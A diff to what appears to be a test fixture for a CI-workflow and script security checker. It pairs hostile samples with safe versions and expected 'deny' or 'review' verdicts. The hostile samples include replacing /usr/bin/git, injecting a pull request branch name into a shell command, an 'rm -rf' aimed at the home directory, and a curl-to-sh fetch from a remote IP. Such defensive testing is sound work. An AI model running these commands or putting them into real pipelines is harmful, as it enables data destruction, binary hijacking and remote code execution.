@@ -17,6 +17,32 @@ const pairs: readonly (readonly [name: string, bad: string, worst: 'deny' | 'rev
     'on: [push]\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo "$KEY_BASE64" | base64 -d > key.bin\n',
   ],
   [
+    // A machine that is made anew for each job, and one that somebody keeps.
+    '.github/workflows/machine.yml',
+    'on: push\njobs:\n  a:\n    runs-on: [self-hosted]\n    steps:\n      - run: sudo apt-get remove -y firefox\n',
+    'review',
+    'on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: sudo apt-get remove -y firefox\n      - run: sudo mv ./crun /usr/bin/crun\n',
+  ],
+  [
+    '.github/workflows/replaced.yml',
+    'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: sudo mv ./git /usr/bin/git\n',
+    'deny',
+    'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: sudo mv ./crun /usr/bin/crun\n',
+  ],
+  [
+    // The branch that is asked to be changed is the project's; the one with the change has a stranger's name.
+    '.github/workflows/branch.yml',
+    'on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git fetch origin \u0024{{ github.event.pull_request.head.ref }}\n',
+    'review',
+    'on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git fetch origin \u0024{{ github.event.pull_request.base.ref }}\n',
+  ],
+  [
+    'ends.sh',
+    '#!/bin/sh\ntmp=$(mktemp -d)\ntrap "rm -rf $tmp/../../home" EXIT\n',
+    'deny',
+    '#!/bin/sh\ntmp=$(mktemp -d)\ntrap "kill \\$(cat $tmp/pid) || true; rm -rf $tmp" EXIT\n',
+  ],
+  [
     'play.yml',
     '- hosts: all\n  tasks:\n    - shell: curl -s http://198.51.100.7/x | sh\n',
     'deny',
